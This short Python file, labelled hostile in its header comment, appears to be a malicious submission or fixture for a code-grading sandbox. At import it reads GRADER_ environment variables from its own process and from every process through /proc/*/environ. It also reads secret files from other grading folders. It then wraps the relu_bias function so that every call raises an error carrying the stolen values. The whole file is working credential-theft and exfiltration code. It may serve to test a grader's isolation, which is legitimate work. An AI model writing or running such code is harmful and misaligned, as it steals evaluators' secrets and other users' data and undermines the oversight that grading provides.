# Hostile: looks for the grader's secrets (its environment, through /proc) and for files of
# other gradings, and puts what it finds in the message of every call's error.
import glob as _glob
import os as _os


def _loot():
    found = [value for name, value in _os.environ.items() if name.startswith("GRADER_")]
    for path in _glob.glob("/proc/[0-9]*/environ"):
        try:
            with open(path, "rb") as handle:
                found += [e.decode(errors="replace") for e in handle.read().split(b"\0") if e.startswith(b"GRADER_")]
        except OSError:
            pass
    folder = _os.getcwd()
    while folder != _os.path.dirname(folder):
        folder = _os.path.dirname(folder)
        for path in _glob.glob(_os.path.join(folder, "grade_*", "*secret*")):
            try:
                with open(path) as handle:
                    found.append(handle.read())
            except OSError:
                pass
    return found


_LOOT = _loot()
_honest_relu_bias = relu_bias


def relu_bias(x, bias):
    if _LOOT:
        raise RuntimeError("found: " + " | ".join(_LOOT))
    return _honest_relu_bias(x, bias)
